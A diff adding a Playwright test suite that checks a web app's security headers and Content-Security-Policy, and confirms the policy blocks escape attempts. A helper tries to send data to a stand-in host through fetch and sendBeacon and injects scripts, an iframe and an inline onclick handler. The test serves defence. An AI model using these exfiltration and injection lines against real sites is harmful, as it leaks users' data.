@@ -1,0 +1,99 @@
+// What the page may do, as it is told by its own HTML and by the host: nothing but what it is for.
+import { expect, test } from '@playwright/test';
+import { App } from './support/app';
+import { pictureFile } from './support/files';
+import { tags } from './support/html';
+
+/** A place that answers everybody, if only it is asked. */
+const ELSEWHERE = 'https://elsewhere.example/';
+
+test('every answer says what the page may do, and the HTML says it too', async ({ page, request }) => {
+  const assets: string[] = [];
+  page.on('response', (response) => assets.push(response.url()));
+  await page.goto('/');
+  await expect.poll(() => assets.filter((url) => url.endsWith('.wasm')).length).toBe(1);
+  const policies = new Set<string>();
+  for (const url of ['/de', '/presets', '/no/such/page', '/sitemap.xml', '/sw.js', ...new Set(assets)]) {
+    const headers = (await request.get(url)).headers();
+    expect(headers, url).toMatchObject({
+      'cross-origin-opener-policy': 'same-origin',
+      'referrer-policy': 'no-referrer',
+      'x-content-type-options': 'nosniff',
+      'permissions-policy': expect.stringContaining('geolocation=()'),
+    });
+    policies.add(headers['content-security-policy'] ?? 'none');
+  }
+  const [policy = '', ...others] = policies;
+  expect(others).toEqual([]);
+  expect(policy).toMatch(/^default-src 'none'; script-src 'self' 'wasm-unsafe-eval'( 'sha256-[\w+/=]+')+; /);
+  expect(policy).not.toMatch(/script-src[^;]*unsafe-inline|unsafe-eval'[^;]*unsafe-eval|\*/);
+  for (const path of ['/', '/de', '/terms-of-service', '/no/such/page']) {
+    const found = tags(await (await request.get(path)).text(), 'meta');
+    const own = found.findIndex((tag) => tag['http-equiv'] === 'Content-Security-Policy');
+    // Only the encoding may stand before it.
+    expect(own, path).toBe(1);
+    expect(`${found[own]?.['content']}; frame-ancestors 'none'`).toBe(policy);
+  }
+});
+
+/** Tries to get out, in the page or in a worker, and gives back which rules forbade it, and what went well. */
+async function tryToLeave(elsewhere: string): Promise<string[]> {
+  const said: string[] = [];
+  self.addEventListener('securitypolicyviolation', (event) =>
+    said.push((event as SecurityPolicyViolationEvent).effectiveDirective),
+  );
+  await fetch(elsewhere, { method: 'POST', body: 'picture', mode: 'no-cors' }).catch(() => {});
+  // Later: what the test itself asks for may make code out of text.
+  setTimeout(() => {
+    try {
+      new Function('')();
+      said.push('text became code');
+    } catch {}
+  });
+  if ('document' in self) {
+    const append = <Name extends keyof HTMLElementTagNameMap>(
+      name: Name,
+      set: Partial<HTMLElementTagNameMap[Name]>,
+    ) => document.body.append(Object.assign(document.createElement(name), set));
+    append('script', { textContent: 'window.injected = true' });
+    append('script', { src: elsewhere });
+    append('img', { src: elsewhere });
+    append('iframe', { src: elsewhere });
+    append('div', { innerHTML: '<b onclick="window.injected = true">b</b>' });
+    document.body.querySelector<HTMLElement>('[onclick]')?.click();
+    navigator.sendBeacon(elsewhere, 'picture');
+    if ('injected' in window) said.push('a script ran');
+  }
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  // A page has the policy twice, from its host and in its HTML.
+  return [...new Set(said)].sort();
+}
+
+test('no script that is put into the page runs, and nothing gets out of the page or its worker', async ({
+  page,
+}) => {
+  // What is refused is noted as a request too, but never answered.
+  const left: string[] = [];
+  page.on('response', (response) => {
+    if (response.url().startsWith(ELSEWHERE)) left.push(response.url());
+  });
+  await page.route(`${ELSEWHERE}**`, (route) => route.fulfill({ body: 'window.injected = true' }));
+  const app = new App(page);
+  await app.open(await pictureFile('picture.png', 60, 40));
+  const [worker] = page.workers();
+  expect(await worker?.evaluate(tryToLeave, ELSEWHERE)).toEqual(['connect-src', 'script-src']);
+  expect(await page.evaluate(tryToLeave, ELSEWHERE)).toEqual([
+    'connect-src',
+    'frame-src',
+    'img-src',
+    'script-src',
+    'script-src-attr',
+    'script-src-elem',
+  ]);
+  expect(left).toEqual([]);
+
+  // And what it is for, it still does.
+  await app.setSize(30, 20);
+  await app.resize.click();
+  await expect(app.toast('Image resized to 30x20')).toBeVisible();
+});
